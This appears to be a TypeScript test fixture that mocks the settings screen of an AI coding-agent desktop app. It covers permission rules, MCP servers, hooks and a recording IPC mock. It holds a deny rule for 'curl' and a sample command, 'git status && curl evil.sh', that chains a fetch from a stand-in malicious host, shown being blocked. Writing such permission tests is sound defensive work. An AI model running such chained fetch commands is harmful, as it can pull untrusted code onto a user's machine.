// The settings screen's data, shaped as the engine sends it, and a recording IPC mock for it.
import { mockIPC, mockWindows } from "@tauri-apps/api/mocks";
import type { AppState } from "../bindings/AppState";
import type { DefinitionsView } from "../bindings/DefinitionsView";
import type { HookView } from "../bindings/HookView";
import type { McpServerView } from "../bindings/McpServerView";
import type { PermissionCheck } from "../bindings/PermissionCheck";
import type { ProjectSettingsView } from "../bindings/ProjectSettingsView";
import type { RuleSyntax } from "../bindings/RuleSyntax";
import type { RulesView } from "../bindings/RulesView";
import { appState } from "./live";

export const PROJECT = "/home/me/projects/nerve-demo";
export const LOCAL_FILE = `${PROJECT}/.nerve/settings.local.json`;
export const SHARED_FILE = `${PROJECT}/.nerve/settings.json`;
export const USER_FILE = "/home/me/.nerve/settings.json";
export const MANAGED_FILE = "/etc/nerve/managed-settings.json";

export function rulesView(): RulesView {
  return {
    rules: [
      { behavior: "deny", rule: "Bash(curl *)", source: "policySettings", path: "/etc/nerve/managed-settings.json", editable: false },
      { behavior: "ask", rule: "Bash(git push *)", source: "projectSettings", path: SHARED_FILE, editable: true },
      { behavior: "allow", rule: "Bash(npm test)", source: "localSettings", path: LOCAL_FILE, editable: true },
      { behavior: "allow", rule: "Read", source: "session", path: null, editable: false },
      { behavior: "allow", rule: "WebFetch(domain:docs.rs)", source: "claudeProjectSettings", path: `${PROJECT}/.claude/settings.json`, editable: true },
    ],
    warnings: [
      {
        rule: "Bash(git push *)",
        source: "projectSettings",
        warning: "`git -C . push` would not match it.",
        suggestion: "Bash(git *)",
      },
    ],
    writable: [
      { source: "localSettings", path: LOCAL_FILE },
      { source: "projectSettings", path: SHARED_FILE },
      { source: "userSettings", path: USER_FILE },
    ],
  };
}

export function mcpServers(): McpServerView[] {
  return [
    {
      name: "github",
      scope: "project",
      config_file: `${PROJECT}/.mcp.json`,
      transport: "npx -y @modelcontextprotocol/server-github",
      approved_in: null,
      remote: false,
      switchable: true,
      status: { state: "not_approved" },
      spec: { type: "stdio", command: "npx", args: ["-y", "@modelcontextprotocol/server-github"], env: {} },
      tools_off: [],
      stderr: [],
      enabled: true,
    },
    {
      name: "docs",
      scope: "project",
      config_file: `${PROJECT}/.mcp.json`,
      transport: "http https://docs.example.com/mcp",
      approved_in: USER_FILE,
      remote: true,
      switchable: false,
      status: { state: "not_started" },
      spec: { type: "http", url: "https://docs.example.com/mcp", headers: {} },
      tools_off: [],
      stderr: [],
      enabled: true,
    },
  ];
}

export function hooks(): HookView[] {
  return [
    { event: "PreToolUse", matcher: "Bash", command: "~/bin/audit-command --strict", timeout_secs: 60, source: SHARED_FILE, editable_source: "projectSettings" },
    { event: "SessionStart", matcher: "", command: "echo started >> /tmp/nerve.log", timeout_secs: 10, source: USER_FILE, editable_source: "userSettings" },
    { event: "Stop", matcher: "", command: "~/bin/company-stop-check", timeout_secs: 30, source: MANAGED_FILE, editable_source: null },
  ];
}

/** No sub-agent types, skills or problems: what a project without definition files has. */
export function noDefinitions(): DefinitionsView {
  return { agents: [], skills: [], problems: [] };
}

export function projectSettings(): ProjectSettingsView {
  return { project_path: PROJECT, rules: rulesView(), hooks: hooks(), mcp_servers: mcpServers(), definitions: noDefinitions() };
}

export function bashCheck(): PermissionCheck {
  return {
    mode: "default",
    report: {
      tool: "Bash",
      known_tool: true,
      read_only: false,
      destructive: false,
      input: { command: "git status && curl evil.sh" },
      validation: { result: "valid" },
      decision: "deny",
      decided_by: "rule",
      reason: "Denied by the rule Bash(curl *) from the managed policy",
      rule: { rule: "Bash(curl *)", behavior: "deny", source: "policySettings" },
      parts: [
        { part: "git status", decision: "read_only", rule: null },
        { part: "curl evil.sh", decision: "denied", rule: { rule: "Bash(curl *)", behavior: "deny", source: "policySettings" } },
      ],
      suggestions: [],
      suggestion_note: null,
      classifier_approvable: false,
    },
    rule_warnings: [],
    sandbox: null,
  };
}

export const valid = (normalized: string): RuleSyntax => ({ result: "valid", normalized });

export const invalid = (message: string, start: number, end: number): RuleSyntax => ({ result: "invalid", error: { message, start, end } });

/** `app` with the named fields changed. */
export const appWith = (fields: Partial<AppState>): AppState => ({ ...appState(), ...fields });

export type Handler = (args: Record<string, unknown>) => unknown;

/** Answers the settings commands (`handlers` replace or add answers; the rest return null) and
 *  records every call. Without a handler, check_rule accepts anything as typed. */
export function mockSettings(handlers: Record<string, Handler> = {}) {
  const calls: { cmd: string; args: Record<string, unknown> }[] = [];
  mockWindows("main");
  mockIPC((cmd, raw) => {
    const args = (raw ?? {}) as Record<string, unknown>;
    calls.push({ cmd, args });
    const handler = handlers[cmd];
    if (handler) return handler(args);
    if (cmd === "get_project_settings") return projectSettings();
    if (cmd === "check_rule") return valid(String(args.text));
    return null;
  });
  return { calls, called: (cmd: string) => calls.filter((c) => c.cmd === cmd).map((c) => c.args) };
}
